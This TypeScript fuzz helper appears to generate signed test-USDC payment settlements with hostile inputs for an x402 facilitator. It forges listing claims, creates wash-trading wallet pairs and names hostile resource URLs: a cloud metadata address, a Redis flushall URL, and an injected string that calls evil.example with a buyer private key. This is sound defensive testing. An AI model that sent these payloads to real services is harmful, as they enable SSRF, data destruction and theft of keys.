/**
 * Valid, signed payments a hostile caller would send (issue 43), for the fuzz (lab/fuzz/fuzz.ts):
 * funded wallets paying their own second wallets while naming the demo catalog's listings (a
 * competitor's signals must not move), naming hostile or unlisted URLs (only probes may follow, and
 * the settlements wait bounded for them), and pairs sending value back and forth (the sponsor must
 * stop paying for them). Every one is a real EIP-3009 authorization of the facilitator's `exact`,
 * from wallets funded with test USDC on the dev chain, where the service settles them.
 */
import { randomBytes } from 'node:crypto';
import { getAddress, type Hex } from 'viem';
import { generatePrivateKey, privateKeyToAccount, type PrivateKeyAccount } from 'viem/accounts';
import { tokenDomain, TRANSFER_WITH_AUTHORIZATION_TYPES } from '../../src/door.js';
import type { RawRequest } from '../lib/rawHttp.js';
import { fundPayers } from '../lib/chainSettlements.js';

const NETWORK = 'eip155:84532';
const USDC = '0x036CbD53842c5426634e7929541eC2318f3dCF7e';
const DOMAIN = tokenDomain('USDC', '2', 84532, USDC);

const HOSTILE_URLS = [
  'https://api.stripe.com/v1/charges',
  'https://pay.nowhere-at-all.invalid/x',
  'http://127.0.0.1:6379/flushall',
  'http://169.254.169.254/latest/meta-data',
  "https://evil.example/x');fetch('https://evil.example/'+process.env.BUYER_PRIVATE_KEY);('",
];

async function settleBody(payer: PrivateKeyAccount, payTo: string, url: string, method: string): Promise<RawRequest> {
  const requirements = { scheme: 'exact', network: NETWORK, asset: USDC, amount: '1000', payTo, maxTimeoutSeconds: 600, extra: { name: 'USDC', version: '2' } };
  const authorization = { from: payer.address, to: getAddress(payTo), value: '1000', validAfter: '0', validBefore: String(Math.floor(Date.now() / 1000) + 3600), nonce: `0x${randomBytes(32).toString('hex')}` as Hex };
  const signature = await payer.signTypedData({
    domain: DOMAIN,
    types: TRANSFER_WITH_AUTHORIZATION_TYPES,
    primaryType: 'TransferWithAuthorization',
    message: { ...authorization, value: 1000n, validAfter: 0n, validBefore: BigInt(authorization.validBefore) },
  });
  const body = {
    x402Version: 2,
    paymentPayload: {
      x402Version: 2,
      resource: { url, description: 'Claimed by the payer', mimeType: '', serviceName: 'Attacker title' },
      accepted: requirements,
      payload: { authorization, signature },
      extensions: { bazaar: { info: { input: { type: 'http', method } } } },
    },
    paymentRequirements: requirements,
  };
  const bytes = Buffer.from(JSON.stringify(body));
  return { method: 'POST', target: '/settle', headers: [['Content-Type', 'application/json'], ['Content-Length', String(bytes.length)]], body: bytes };
}

/** `count` settlements: forged claims on `listed` URLs, hostile URLs, and value going back and forth. */
export async function paidTraffic(listed: string[], count: number, seed: number): Promise<RawRequest[]> {
  const wallets = Array.from({ length: 50 }, () => privateKeyToAccount(generatePrivateKey()));
  await fundPayers(wallets.map((w) => w.address), 10n ** 9n);
  let state = seed || 1;
  const pick = <T>(items: readonly T[]): T => items[(state = (state * 1103515245 + 12345) % 2147483648) % items.length]!;
  const requests: RawRequest[] = [];
  for (let i = 0; i < count; i += 1) {
    const kind = i % 3;
    if (kind === 0) {
      // A pays its own B, naming a competitor.
      requests.push(await settleBody(pick(wallets), privateKeyToAccount(generatePrivateKey()).address, pick(listed), 'GET'));
    } else if (kind === 1) {
      requests.push(await settleBody(pick(wallets), privateKeyToAccount(generatePrivateKey()).address, pick(HOSTILE_URLS), pick(['GET', 'POST', 'DELETE', 'HEAD'])));
    } else {
      // The pairs (2k, 2k+1) send value back and forth.
      const pair = (i * 7) % 25;
      const [a, b] = i % 2 ? [wallets[2 * pair]!, wallets[2 * pair + 1]!] : [wallets[2 * pair + 1]!, wallets[2 * pair]!];
      requests.push(await settleBody(a, b.address, pick(listed), 'GET'));
    }
  }
  return requests;
}
